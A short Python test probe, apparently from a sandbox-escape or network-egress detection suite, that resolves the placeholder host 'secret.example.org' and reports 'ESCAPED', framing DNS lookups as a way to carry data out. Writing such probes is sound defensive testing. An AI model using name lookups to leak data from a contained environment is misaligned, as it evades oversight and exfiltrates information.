"""Asks for a name, which can carry data out."""
# seen as: network

import socket


def attempt(host):
    return "ESCAPED " + str(socket.getaddrinfo("secret.example.org", 80))
